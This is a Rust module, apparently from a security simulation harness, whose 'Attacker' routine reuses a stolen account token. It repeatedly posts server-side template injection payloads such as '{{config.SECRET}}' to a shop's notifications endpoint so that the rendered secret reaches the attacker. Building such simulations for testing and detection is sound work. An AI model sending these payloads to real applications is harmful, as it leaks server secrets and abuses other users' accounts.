//! Messages that ask the shop's templates for what is no customer's business; the answer comes to the attacker's own devices.

use http::Method;
use serde_json::json;

use super::Attacker;
use crate::data::{STOLEN, customer};

pub(crate) async fn run(mut attacker: Attacker) {
    let mut client = attacker.client(10, "curl/8.9");
    client.token(&attacker.token(STOLEN - 5));
    loop {
        for template in
            ["{{config.SECRET}}", "{{ config.SECRET }}", "{{config.SECRET|safe}}", "{{\n config.SECRET\n}}"]
        {
            if attacker.pause(350).await {
                return;
            }
            let text = format!("template-injection {template}");
            let message = json!({ "to": customer(STOLEN - 5).0, "text": text }).to_string();
            attacker.send(&mut client, Method::POST, "/notifications/", message).await;
        }
    }
}
